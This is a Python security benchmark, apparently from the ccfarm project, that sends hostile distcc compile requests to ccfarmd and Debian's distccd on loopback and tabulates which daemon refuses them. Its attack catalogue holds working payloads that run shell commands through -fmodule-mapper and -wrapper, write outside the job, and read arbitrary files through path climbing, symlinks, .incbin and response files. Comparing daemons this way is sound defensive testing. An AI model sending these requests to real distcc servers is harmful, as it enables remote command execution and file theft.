"""Hostile compile requests against ccfarmd and Debian's distccd, side by side.

    python bench/attacks.py                 # both daemons, on 127.0.1.x loopback
    python bench/attacks.py --only ccfarmd

Each request is built by hand on the distcc protocol (as an attacker on the
allowed network would) and tries to run a program, write a file outside the
job, or read a file that is not the job's. The script makes a scratch
directory with a secret file (readable by all, so that a daemon running as
`nobody` could leak it) and one world-writable marker directory per attack,
sends every request to each daemon, and prints what it achieved:

* `refused`: no marker appeared and the secret's bytes are in no reply (the
  daemon refused the request, or the compile showed nothing);
* `RAN`, `WROTE`, `READ`: a marker file appeared, or the secret came back
  (in a message or the object).

distccd runs as `nobody` (`--user nobody`, as root) with `--allow
127.0.0.0/8`; ccfarmd as the user running this script. The catalogue
(`ATTACKS`) is also what tests/adversity/test_attacks.py sends.
"""

from __future__ import annotations

import argparse
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from ccfarm.protocol import (
    NEED_DATA,
    FileEntry,
    JobHeader,
    LinkEntry,
    ReplyParser,
    encode_request,
)

CWD = "/home/u/p"  # the client's directory in protocol-3 requests
CLIMB = "../" * 40  # more than any mirror is deep


@dataclass(frozen=True)
class Scratch:
    """The attacker's targets on the host, made by the caller."""

    root: Path
    secret: Path
    token: bytes  # a word of the secret that must never come back

    def marker(self, attack: str) -> Path:
        return self.root / "out" / attack


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # "runs", "writes", "reads"
    what: str
    build: Callable[[Scratch], bytes]


def _v1(argv: list[str], source: bytes) -> bytes:
    return encode_request(JobHeader(1, tuple(a.encode() for a in argv)), source=source)


def _v3(argv: list[str], files: list[FileEntry | LinkEntry]) -> bytes:
    header = JobHeader(3, tuple(a.encode() for a in argv), cwd=CWD.encode())
    return encode_request(header, files=files)


def _file(name: str, text: str) -> FileEntry:
    return FileEntry(f"{CWD}/{name}".encode(), text.encode())


def _link(name: str, target: str) -> LinkEntry:
    return LinkEntry(f"{CWD}/{name}".encode(), target.encode())


INT = b"int x;\n"


def _mapper_v1(s: Scratch) -> bytes:
    mapper = f"-fmodule-mapper=|/usr/bin/touch {s.marker('mapper-v1')}/ran"
    return _v1(["g++", "-fmodules-ts", mapper, "-c", "x.ii", "-o", "x.o"], INT)


def _mapper_v3(s: Scratch) -> bytes:
    script = f"touch {s.marker('mapper-v3')}/ran\n"
    argv = ["g++", "-fmodules-ts", "-fmodule-mapper=|/bin/sh evil.sh", "-c", "x.cc", "-o", "x.o"]
    return _v3(argv, [_file("x.cc", "int x;\n"), _file("evil.sh", script)])


def _wrapper(s: Scratch) -> bytes:
    wrapper = f"/bin/sh,-c,touch {s.marker('wrapper')}/ran"
    return _v1(["gcc", "-wrapper", wrapper, "-c", "x.i", "-o", "x.o"], INT)


def _output_long(s: Scratch) -> bytes:
    out = f"--output={s.marker('output-long')}/x.o"
    return _v1(["gcc", "-c", "x.i", "-o", "x.o", out], INT)


def _opt_info(s: Scratch) -> bytes:
    opt = f"-fopt-info-all={s.marker('opt-info')}/log"
    return _v1(["gcc", "-O2", opt, "-c", "x.i", "-o", "x.o"], b"int f(int a) { return a * 2; }\n")


def _time(s: Scratch) -> bytes:
    return _v1(["gcc", f"-time={s.marker('time')}/log", "-c", "x.i", "-o", "x.o"], INT)


def _wa_md(s: Scratch) -> bytes:
    return _v1(["gcc", f"-Wa,-MD,{s.marker('wa-md')}/d", "-c", "x.i", "-o", "x.o"], INT)


def _gcm_link(s: Scratch) -> bytes:
    unit = "export module m;\nexport int f() { return 1; }\n"
    files = [_link("gcm.cache", CLIMB + str(s.marker("gcm-link")).lstrip("/")), _file("m.cc", unit)]
    return _v3(["g++", "-fmodules-ts", "-c", "m.cc", "-o", "m.o"], files)


def _incbin(s: Scratch) -> bytes:
    source = f'__asm__(".incbin \\"{s.secret}\\"");\n'.encode()
    return _v1(["gcc", "-c", "x.i", "-o", "x.o"], source)


def _response_file(s: Scratch) -> bytes:
    return _v1(["gcc", f"@{s.secret}", "-c", "x.i", "-o", "x.o"], INT)


def _abs_include(s: Scratch) -> bytes:
    return _v3(["gcc", "-c", "x.c", "-o", "x.o"], [_file("x.c", f'#include "{s.secret}"\n')])


def _climb_include(s: Scratch) -> bytes:
    argv = ["gcc", "-include", CLIMB + str(s.secret).lstrip("/"), "-c", "x.c", "-o", "x.o"]
    return _v3(argv, [_file("x.c", "int x;\n")])


def _climb_imacros(s: Scratch) -> bytes:
    argv = ["gcc", "-imacros", CLIMB + str(s.secret).lstrip("/"), "-c", "x.c", "-o", "x.o"]
    return _v3(argv, [_file("x.c", "int x;\n")])


def _climb_source(s: Scratch) -> bytes:
    argv = ["gcc", "-x", "c", "-c", CLIMB + str(s.secret).lstrip("/"), "-o", "x.o"]
    return _v3(argv, [_file("x.c", "int x;\n")])


def _climb_link(s: Scratch) -> bytes:
    files = [_link("s.h", CLIMB + str(s.secret).lstrip("/")), _file("x.c", '#include "s.h"\n')]
    return _v3(["gcc", "-c", "x.c", "-o", "x.o"], files)


def _line_marker_v1(s: Scratch) -> bytes:
    # gcc reads the file a line marker names to show the line under a warning
    return _v1(["gcc", "-c", "x.i", "-o", "x.o"], f'# 1 "{s.secret}"\nint x = 1 / 0;\n'.encode())


def _line_macro_v3(s: Scratch) -> bytes:
    source = f'#define F "{s.secret}"\n#line 1 F\nint x = 1 / 0;\n'
    return _v3(["gcc", "-c", "x.c", "-o", "x.o"], [_file("x.c", source)])


ATTACKS: tuple[Attack, ...] = (
    Attack("mapper-v1", "runs", "g++ -fmodules-ts -fmodule-mapper='|CMD' (protocol 1)", _mapper_v1),
    Attack(
        "mapper-v3", "runs", "the same, the script shipped in the request (protocol 3)", _mapper_v3
    ),
    Attack("wrapper", "runs", "-wrapper /bin/sh,-c,CMD", _wrapper),
    Attack(
        "output-long", "writes", "--output=/abs (after the -o the daemon replaces)", _output_long
    ),
    Attack("opt-info", "writes", "-fopt-info-all=/abs", _opt_info),
    Attack("time", "writes", "-time=/abs", _time),
    Attack("wa-md", "writes", "-Wa,-MD,/abs (the assembler's dependency file)", _wa_md),
    Attack(
        "gcm-link", "writes", "protocol 3: LINK gcm.cache -> a directory, -fmodules-ts", _gcm_link
    ),
    Attack("incbin", "reads", '.incbin "/abs" in the source (only a sandbox stops it)', _incbin),
    Attack("response-file", "reads", "@/abs: the file's words become arguments", _response_file),
    Attack("abs-include", "reads", 'protocol 3: #include "/abs"', _abs_include),
    Attack("climb-include", "reads", "protocol 3: -include ../../../abs", _climb_include),
    Attack("climb-imacros", "reads", "protocol 3: -imacros ../../../abs", _climb_imacros),
    Attack("climb-source", "reads", "protocol 3: the source ../../../abs", _climb_source),
    Attack("climb-link", "reads", "protocol 3: LINK s.h -> ../../../abs", _climb_link),
    Attack("line-marker", "reads", '# 1 "/abs" and a warning (protocol 1)', _line_marker_v1),
    Attack(
        "line-macro", "reads", 'protocol 3: #line 1 MACRO ("/abs") and a warning', _line_macro_v3
    ),
)


def make_scratch(parent: str) -> Scratch:
    root = Path(tempfile.mkdtemp(prefix="attacks-", dir=parent))
    root.chmod(0o755)
    token = f"SECRET_{secrets.token_hex(8)}".encode()
    secret = root / "secret.txt"
    secret.write_bytes(token + b" is the secret;\n")
    secret.chmod(0o644)
    (root / "out").mkdir(mode=0o755)
    for attack in ATTACKS:
        marker = root / "out" / attack.name
        marker.mkdir()
        marker.chmod(0o777)  # a daemon running as nobody could write here
    return Scratch(root, secret, token)


def exchange(address: str, port: int, request: bytes, timeout: float = 60) -> bytes:
    """Send one request, read the reply until the daemon closes."""
    with socket.create_connection((address, port), timeout=timeout) as sock:
        try:
            sock.sendall(request)
            reply = b""
            while chunk := sock.recv(65536):
                reply += chunk
        except (ConnectionResetError, BrokenPipeError):
            return b""
    return reply


def reply_bytes(version: int, reply: bytes) -> bytes:
    """Everything a reply carries (messages, object, .d), decompressed."""
    parser = ReplyParser(version)
    parser.receive_data(reply)
    parser.receive_eof()
    found = [reply]
    try:
        while (event := parser.next_event()) is not NEED_DATA:
            data = getattr(event, "data", None)
            if isinstance(data, bytes):
                found.append(data)
    except Exception:  # a cut or odd reply still counts by its raw bytes
        pass
    return b"\n".join(found)


def outcome(attack: Attack, scratch: Scratch, request: bytes, reply: bytes) -> str:
    """`refused`, or what the attack achieved."""
    version = int(request[4:12], 16)
    marker = scratch.marker(attack.name)
    if any(marker.iterdir()):
        return "RAN" if attack.kind == "runs" else "WROTE"
    if scratch.token in reply_bytes(version, reply):
        return "READ"
    return "refused"


def run_all(address: str, port: int, scratch: Scratch) -> dict[str, str]:
    results = {}
    for attack in ATTACKS:
        request = attack.build(scratch)
        reply = exchange(address, port, request)
        results[attack.name] = outcome(attack, scratch, request, reply)
    return results


def _ccfarmd(address: str, port: int, log_dir: str, src: str | None) -> subprocess.Popen[bytes]:
    from ccfarm.demo.farm import ccfarmd_command

    log = os.path.join(log_dir, "ccfarmd.log")
    cmd = ccfarmd_command(address, port, 2, ("--log-file", log))
    env = dict(os.environ)
    if src:  # another ccfarm's code (an older commit's src/), for a before/after
        env["PYTHONPATH"] = os.path.abspath(src)
    return subprocess.Popen(cmd, stdin=subprocess.DEVNULL, env=env)


def _distccd(address: str, port: int, log_dir: str, src: str | None) -> subprocess.Popen[bytes]:
    from ccfarm.demo.farm import distccd_command

    binary = shutil.which("distccd")
    if binary is None:
        raise SystemExit("distccd is not installed (apt-get install distcc)")
    cmd = distccd_command(binary, address, port, 2)
    if os.geteuid() == 0:
        cmd += ["--user", "nobody"]
    with open(os.path.join(log_dir, "distccd.log"), "wb") as log:
        return subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stderr=log)


def main() -> None:
    from ccfarm.demo.farm import stop_process, wait_listening

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", choices=("ccfarmd", "distccd"))
    parser.add_argument("--address", default="127.0.1.201")
    parser.add_argument("--ccfarm-src", help="run ccfarmd from this src/ directory instead")
    args = parser.parse_args()
    daemons = {"ccfarmd": _ccfarmd, "distccd": _distccd}
    chosen = [args.only] if args.only else list(daemons)
    work = tempfile.mkdtemp(prefix="ccfarm-attacks-")
    os.chmod(work, 0o755)
    table: dict[str, dict[str, str]] = {}
    try:
        for i, name in enumerate(chosen):
            address = args.address.rsplit(".", 1)[0] + f".{int(args.address.rsplit('.', 1)[1]) + i}"
            with socket.socket() as s:
                s.bind((address, 0))
                port = int(s.getsockname()[1])
            proc = daemons[name](address, port, work, args.ccfarm_src)
            try:
                wait_listening(address, port)
                table[name] = run_all(address, port, make_scratch(work))
                table[name]["alive"] = _alive(address, port)
            finally:
                stop_process(proc, 10)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    _print(table, chosen)


def _alive(address: str, port: int) -> str:
    """Does the daemon still compile a plain job after the attacks?"""
    reply = exchange(address, port, _v1(["gcc", "-c", "x.i", "-o", "x.o"], INT))
    return "yes" if reply.startswith(b"DONE00000001STAT00000000") else "NO"


def _print(table: dict[str, dict[str, str]], chosen: list[str]) -> None:
    width = max(len(a.what) for a in ATTACKS)
    print(f"{'attack':<{width}}  " + "  ".join(f"{n:>8}" for n in chosen))
    for attack in ATTACKS:
        cells = "  ".join(f"{table[n][attack.name]:>8}" for n in chosen)
        print(f"{attack.what:<{width}}  {cells}")
    print(
        f"{'still compiling after them':<{width}}  "
        + "  ".join(f"{table[n]['alive']:>8}" for n in chosen)
    )
    for name in chosen:
        refused = sum(table[name][a.name] == "refused" for a in ATTACKS)
        print(f"{name}: refused {refused} of {len(ATTACKS)}")


if __name__ == "__main__":
    sys.exit(main())
